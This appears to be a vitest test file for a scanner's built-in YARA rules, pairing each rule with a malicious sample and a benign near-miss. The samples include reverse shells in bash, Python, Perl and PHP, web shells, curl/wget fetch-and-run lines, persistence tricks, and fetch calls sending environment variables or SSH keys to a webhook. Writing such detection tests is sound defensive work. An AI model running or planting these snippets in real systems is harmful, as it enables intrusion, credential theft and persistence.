import { expect, test } from "vitest";
import { builtinYaraRules } from "./builtin-yara-rules.ts";
import { scanBytes } from "./scan-bytes.ts";

const rules = builtinYaraRules();
// In parts, so that no scanner takes this file for what it describes.
const join = (...parts: readonly string[]): string => parts.join("");
const elf = (type: number, ...strings: readonly string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, type, 0]),
    Buffer.from(`\0${strings.join("\0")}\0`, "latin1"),
  ]);
const collector = join("https://discord", ".com/api/webhooks/1234/abc");

/** For each rule a file that it finds, and one that is close to it. */
const examples: Readonly<Record<string, readonly [string | Buffer, string | Buffer]>> = {
  coin_miner_program: [
    elf(2, join("stratum", "+tcp://"), "xmrig 6.21", "randomx"),
    elf(2, join("stratum", "+tcp://"), "a monitor of pools"),
  ],
  coin_miner_configuration: [
    '{"donate-level": 1, "pools": [{"coin": "monero", "url": "x:3333"}]}',
    '{"pools": [{"coin": "x", "size": 5}]}',
  ],
  coin_miner_launcher: [
    join(
      "#!/bin/sh\n./run -o stratum",
      "+tcp://pool.example.org:3333 -u 4AbcdefghijklmnopqrstuvwxyzABCD --coin monero\n",
    ),
    "#!/bin/sh\n./run -o https://pool.example.org:3333 -u ada\n",
  ],
  php_web_shell: [join("<?php ev", "al($_POST['x']); ?>"), "<?php echo htmlspecialchars($_POST['x']); ?>"],
  php_packed_code: [join("<?php ev", "al(gzinflate(base64_decode('x')));"), "<?php $x = gzinflate(base64_decode($y));"],
  jsp_web_shell: [
    join("<% Runtime.getRuntime().ex", 'ec(request.getParameter("c")); %>'),
    '<% out.print(request.getParameter("c")); %>',
  ],
  asp_web_shell: [join("<% ev", 'al request("c") %>'), '<% response.write request("c") %>'],
  cgi_web_shell: [join("#!/bin/sh\nev", 'al "$QUERY_STRING"\n'), '#!/bin/sh\necho "$QUERY_STRING"\n'],
  shell_script_reverse_shell: [
    join("bash -i >& /dev", "/tcp/192.0.2.7/4444 0>&1\n"),
    join("echo ready > /dev", "/tcp/localhost/80\n"),
  ],
  python_reverse_shell: [
    join("s.connect(('192.0.2.7', 4444))\nos.dup", "2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n"),
    "s.connect(('192.0.2.7', 4444))\nsubprocess.call(['/bin/ls'])\n",
  ],
  perl_reverse_shell: [
    join("socket(S,PF_INET,1,6);open(STDIN,'>", "&S');open(STDOUT,'>", "&S');exec{'/bin/sh'} '-sh';"),
    "socket(S,PF_INET,1,6);open(STDOUT,'>log');",
  ],
  php_reverse_shell: [
    join("<?php $s=fsockopen('192.0.2.7',4444);proc_open('/bin/sh", " -i', $d, $p);"),
    "<?php $s=fsockopen('192.0.2.7',25);",
  ],
  linux_ddos_bot: [
    elf(2, "/bin/busybox MIRAI", "applet not found", join("xc", "3511")),
    elf(2, "busybox: applet not found", "/dev/misc/watchdog"),
  ],
  linux_preload_rootkit: [
    elf(3, "readdir64", "dlsym", join("/etc/ld.so", ".preload"), "/proc/self/fd/%d", "/proc/net/tcp", "__xstat"),
    elf(3, "readdir64", "dlsym", "/proc/self/fd/%d", "/proc/net/tcp", "__xstat"),
  ],
  linux_kernel_rootkit: [
    elf(1, "vermagic=6.1", join("hook", "_getdents64"), "kallsyms_lookup_name", "prepare_creds"),
    elf(1, "vermagic=6.1", "kallsyms_lookup_name", "prepare_creds"),
  ],
  linux_setuid_dropper: [
    join("cp /bin/bash /tmp/.x\nchmod 4755", " /tmp/.x\n"),
    "cp /bin/bash /tmp/bash\nchmod 755 /tmp/bash\n",
  ],
  linux_download_and_run: [
    join("cd /tmp; wg", "et http://192.0.2.7/x86; chmod 777 x86; ./x86; rm -rf x86"),
    "cd /tmp; wget https://example.org/x.tar.gz; chmod 755 x; ./x; rm -rf x",
  ],
  cron_persistence: [
    join("*/5 * * * * root cu", "rl -fsSL http://192.0.2.7/a.sh | sh\n"),
    "*/5 * * * * root curl -fsS https://hc.example.org/ping\n",
  ],
  systemd_persistence: ["[Service]\nExecStart=/tmp/.x/run\n", "[Service]\nExecStart=/usr/bin/run --state /tmp/run\n"],
  shell_start_up_persistence: [
    join("echo 'x' >> ~/.bashrc\necho eA== | base64", " -d | sh\n"),
    "echo 'export PATH' >> ~/.bashrc\n",
  ],
  authorized_keys_persistence: [
    join("echo ssh-rsa ", "AAAA".repeat(12), " x >> ~/.ssh/authorized_keys; history", " -c\n"),
    join("echo ssh-rsa ", "AAAA".repeat(12), " x >> ~/.ssh/authorized_keys\n"),
  ],
  npm_install_stealer: [
    join('{"name": "x", "scripts": {"postinstall": "cu', 'rl http://192.0.2.7/a | sh"}}'),
    '{"name": "x", "scripts": {"postinstall": "node-gyp rebuild"}}',
  ],
  javascript_token_stealer: [
    `fetch("${collector}", {body: JSON.stringify(process.env)})`,
    `fetch("${collector}", {body: "deployed"})`,
  ],
  python_token_stealer: [
    `requests.post("${collector}", open("/root/.ssh/id_rsa").read())`,
    `requests.post("${collector}", "deployed")`,
  ],
  python_packed_code: [
    join("ex", "ec(zlib.decompress(base64.b64decode('x')))"),
    "data = zlib.decompress(base64.b64decode('x'))",
  ],
  eicar_test_file: [
    join("X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"),
    join("The file has ", "$EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$"),
  ],
};

test("every rule can be used, has a title, a description and a severity, and examples", () => {
  expect({ unsupported: rules.unsupported, problems: rules.problems }).toEqual({ unsupported: [], problems: [] });
  expect(rules.rules.map(({ name }) => name).toSorted()).toEqual(Object.keys(examples).toSorted());
  for (const { name, meta } of rules.rules) {
    expect([name, ...meta.map((entry) => entry.name)]).toEqual([name, "title", "description", "severity"]);
    expect(["high", "critical"]).toContain(meta.at(-1)?.value);
  }
});

test.each(Object.entries(examples))("%s finds its example, and nothing in what is close to it", (name, [bad, good]) => {
  expect(scanBytes(rules, Buffer.from(bad)).matches.map(({ rule }) => rule)).toEqual([name]);
  expect(scanBytes(rules, Buffer.from(good)).matches).toEqual([]);
});
